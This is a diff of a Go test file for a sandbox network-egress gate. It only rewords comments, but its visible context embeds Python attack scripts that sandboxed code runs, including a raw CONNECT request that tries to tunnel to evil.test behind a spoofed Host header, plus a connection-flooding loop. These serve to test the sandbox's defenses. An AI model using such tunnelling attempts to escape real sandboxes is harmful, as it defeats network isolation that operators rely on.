@@ -23,7 +23,7 @@ import (
 	"github.com/fumehood-dev/fumehood/test/backendtest"
 )
 
-// insideAttacks is what code in a sandbox can try. internal/egress tries more, as root within the sandbox's network.
+// insideAttacks are attacks by code in a sandbox. internal/egress makes more, as root in the sandbox's network.
 const insideAttacks = `
 import socket, ssl, urllib.request
 def tcp(host, port, data=b"canary"):
@@ -53,7 +53,7 @@ tcp("93.184.216.34", 80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test\r\n
 print(get("http://good.test/done"))
 `
 
-// TestCanariesOfRun: code in a sandbox causes no packet but those that its policy allows.
+// TestCanariesOfRun: code in a sandbox causes only the packets that its policy allows.
 func TestCanariesOfRun(t *testing.T) {
 	if testing.Short() {
 		t.Skip("SKIPPED, NOT TESTED: it takes 20 s; package egress has the same attacks before the gate alone")
@@ -113,8 +113,8 @@ func TestCanariesOfRun(t *testing.T) {
 	}
 }
 
-// busy sends a stream without end, and datagrams, and tries again and again to connect and to say a number. It prints
-// the numbers for which it got no connection.
+// busy sends an endless stream and datagrams. In a loop, it connects and sends a number. It prints each number whose
+// connection failed.
 const busy = `
 import socket, threading
 def stream():
@@ -136,7 +136,7 @@ while True:
     except OSError: print(n, flush=True)
 `
 
-// numbers are those that arrived, and what is waiting for one.
+// numbers are the numbers that arrived, and the goroutines that wait for one.
 type numbers struct {
 	mu  sync.Mutex
 	all map[string]bool
@@ -166,8 +166,8 @@ func (n *numbers) count() int {
 	return len(n.all)
 }
 
-// TestGateKilled: a server that is killed in mid-transfer takes its gates with it. From then on not one packet passes,
-// until the next server opens them again.
+// TestGateKilled: when a server is killed during a transfer, its gates end. No packet passes until the next server
+// opens them again.
 func TestGateKilled(t *testing.T) {
 	if testing.Short() {
 		t.Skip("SKIPPED, NOT TESTED: it takes 10 s; a restart of the server is in TestAgentDay")
@@ -250,12 +250,12 @@ func TestGateKilled(t *testing.T) {
 	}
 }
 
-// passes reports whether both the stream and datagrams do.
+// passes reports whether both the stream and datagrams pass.
 func passes(counts map[string]int) bool {
 	return counts["tcp 93.184.216.50:25"] > 0 && counts["udp 93.184.216.50:99"] > 0
 }
 
-// waitUntil waits for what must become true.
+// waitUntil waits until a condition is true.
 func waitUntil(t *testing.T, what string, is func() bool) {
 	t.Helper()
 	for end := time.Now().Add(stepTimeout); !is(); time.Sleep(10 * time.Millisecond) {
@@ -265,7 +265,7 @@ func waitUntil(t *testing.T, what string, is func() bool) {
 	}
 }
 
-// logOf is what an execution in the background has printed so far.
+// logOf returns the output of a background run so far.
 func logOf(t *testing.T, c *client.Client, name, run string) string {
 	t.Helper()
 	var out bytes.Buffer
